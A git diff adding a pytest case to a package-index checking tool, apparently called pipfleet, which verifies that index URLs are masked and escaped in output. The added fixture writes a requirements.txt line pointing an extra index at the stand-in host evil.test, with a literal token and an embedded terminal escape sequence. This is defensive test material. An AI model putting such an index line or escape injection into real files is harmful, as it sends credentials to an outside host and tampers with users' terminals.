@@ -1,11 +1,13 @@
 from __future__ import annotations
 
+from pathlib import Path
+
 import pytest
 
 from pipfleet.checkoutput import check_lines, print_check, use_color
 from pipfleet.engine.audit import AuditOptions
 from pipfleet.engine.listing import Listing
-from pipfleet.jobs.check import CheckResult, Mode, check_text
+from pipfleet.jobs.check import CheckResult, Mode, check_paths, check_text
 
 LISTING = Listing.of(["orb-common"])
 URL = "https://aws:${CODEARTIFACT_AUTH_TOKEN}@a-1.d.codeartifact.us-east-1.amazonaws.com/pypi/r/simple/"
@@ -59,3 +61,16 @@ def test_diff_mode_prints_the_diff_with_its_secret_masked() -> None:
     lines = "\n".join(check_lines(_result(text, Mode.DIFF)))
     assert '+orb-common = {version = "*", index = "codeartifact"}' in lines
     assert "s3cr3t-token-value" not in lines
+
+
+def test_a_requirements_proposal_is_shown_escaped_and_masked(tmp_path: Path) -> None:
+    # Another extra index, with a literal token and a terminal escape: pipfleet makes
+    # neither change, so both are shown as proposals, never as the file's raw bytes.
+    (tmp_path / "requirements.txt").write_text(
+        "--extra-index-url https://aws:s3cr3t-token-value@evil.test/simple/\x1b[2J\n"
+        f"--extra-index-url {URL}\norb-common\n"
+    )
+    result = check_paths([tmp_path], LISTING, AuditOptions(source_url=URL), Mode.AUDIT)
+    lines = "\n".join(check_lines(result))
+    assert "proposed, for you to make:" in lines and result.exit_code == 1
+    assert "\x1b[2J" not in lines and "s3cr3t-token-value" not in lines
